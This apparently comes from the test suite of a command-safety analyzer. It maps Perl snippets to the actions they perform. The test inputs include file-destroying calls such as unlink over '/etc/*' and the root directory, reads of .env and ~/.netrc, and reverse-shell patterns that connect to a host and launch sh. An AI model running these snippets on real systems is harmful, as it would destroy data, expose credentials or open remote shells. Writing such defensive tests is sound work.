"""Perl by its calls, its `open` and its quote-like operators."""

from __future__ import annotations

from tests.shell.rows import code_rows

test_calls = code_rows(
    "perl",
    r"""
system("rm x") => run perl [inline] · run rm x · write x [delete]
system("rm", "x") => run perl [inline] · run rm x · write x [delete]
exec 'rm x' => run perl [inline] · run rm x · write x [delete]
`rm x` => run perl [inline] · run rm x · write x [delete]
qx{rm x} => run perl [inline] · run rm x · write x [delete]
open(F, "<.env") => run perl [inline] · read .env
open(my $f, "<", ".env") => run perl [inline] · read .env
open(F, "rm x|") => run perl [inline] · run rm x · write x [delete]
unlink "x" => run perl [inline] · write x [delete]
eval "system('rm x')" => run perl [inline] · run rm x · write x [delete]
eval { die } => run perl [inline]
eval $x => run perl [inline] OPAQUE
print "system('rm x')" => run perl [inline]
s/a/system("rm x")/e => run perl [inline] OPAQUE
use LWP::Simple; get("https://a.example") => run perl [inline] · connect https://a.example
rmtree("x") => run perl [inline] · write x [delete,tree]
my $c = "rm x"; system($c) => run perl [inline] · run rm x · write x [delete]
do "x.pl" => run perl [inline] · read x.pl
syscall(59, "x") => run perl [inline] OPAQUE
use IO::Socket; IO::Socket::INET->new(PeerAddr=>"h.example", PeerPort=>1); exec("sh") => run perl [inline] · connect h.example · run sh <network:h.example>
connect(S, sockaddr_in(1, inet_aton("10.0.0.1"))); system("sh -i") => run perl [inline] · connect 10.0.0.1 · run sh -i <network:10.0.0.1>
open(P, "|sh"); print P "rm x" => run perl [inline] · run sh <unknown:code> OPAQUE
open(P, "ls|"); print <P> => run perl [inline] · run ls
open(P, "|-", "sort"); print P "a" => run perl [inline] · run sort
unlink("$ENV{HOME}/x") => run perl [inline] · write ~/x [delete]
open(F, "<$ENV{HOME}/.netrc") => run perl [inline] · read ~/.netrc
system("rm $x{a}/b $y->[0]") => run perl [inline] OPAQUE · run rm □/b □ · write □/b [delete] · write □ [delete]
""",
)

test_deletions = code_rows(
    "perl",
    r"""
unlink glob "/etc/*" => run perl [inline] · read /etc/* [list] · write /etc/□ [delete,tree]
unlink glob "*.log" => run perl [inline] · read *.log [list] · write ./□ [delete,tree]
find(sub { unlink }, "/") => run perl [inline] · read / [list] · write /□ [delete,tree]
unlink $x => run perl [inline] · write □ [delete]
unlink "a", glob "b/*" => run perl [inline] · read b/* [list] · write a [delete]
""",
)
